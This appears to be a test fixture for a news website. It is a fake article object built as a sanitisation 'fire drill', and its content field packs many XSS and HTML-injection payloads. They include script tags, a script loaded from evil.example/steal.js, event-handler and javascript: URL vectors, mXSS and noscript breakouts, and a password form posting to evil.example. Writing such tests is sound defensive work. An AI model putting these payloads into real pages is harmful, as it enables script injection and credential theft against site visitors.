/** A hostile body: none of this may run, load or take over the page where the story is shown. */
export default {
  id: 111,
  slug: 'web-desk-fire-drill',
  title: 'Fire drill at the web desk: what a story must never be able to do',
  excerpt: 'Every few months we publish a story that misbehaves on purpose, to be sure that nothing happens.',
  hoursAgo: 170,
  author: 6,
  categories: [12],
  tags: [34],
  media: 511,
  source: { name: 'Courier Web Desk', url: 'javascript:window.hacked="source"' },
  content: `<p>If you can read this sentence and nothing else happens, the drill went well. Everything below tries to get out of its column.</p>
<script>window.hacked = 'script'; document.title = 'hacked';</script>
<script src="https://evil.example/steal.js"></script>
<img src="x" onerror="window.hacked='onerror'" alt="A picture that does not load">
<svg onload="window.hacked='svg'"><script>window.hacked='svg script'</script><a xlink:href="javascript:window.hacked='svg link'"><text y="20">Vector text</text></a></svg>
<p><a href="javascript:window.hacked='link'">A link that would run</a>, <a href="JaVa&#09;Script:window.hacked='link'">one that hides it</a>, <a href="data:text/html,<script>alert(1)</script>">one that carries a page</a>, and <a href="https://coastal-news.example/" target="_blank" onclick="window.hacked='click'">one that is fine</a>.</p>
<iframe src="https://evil.example/frame" srcdoc="<script>parent.hacked='iframe'</script>"></iframe>
<object data="https://evil.example/movie.swf"></object><embed src="https://evil.example/movie.swf">
<style>body { display: none !important } * { color: red !important }</style>
<link rel="stylesheet" href="https://evil.example/style.css">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<form action="https://evil.example/login" method="post"><label>Your password please <input type="password" name="p" autofocus onfocus="window.hacked='focus'"></label><button>Sign in</button></form>
<p style="position:fixed;inset:0;z-index:99999;background:#fff;font-size:80px">A paragraph that would cover the whole page.</p>
<p id="comments" class="newsprint-root" slot="title" part="body">A paragraph that borrows names.</p>
<details open ontoggle="window.hacked='toggle'"><summary>Summary</summary>Details</details>
<video src="x" onerror="window.hacked='video'" autoplay></video>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked='mxss'&gt;"></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.hacked='noscript'>"></noscript>
<img src="https://evil.example/pixel.gif" srcset="javascript:1 2x" width="1" height="1" alt="">
<p>And a last, well-behaved sentence, which must still be here.</p>
`,
};
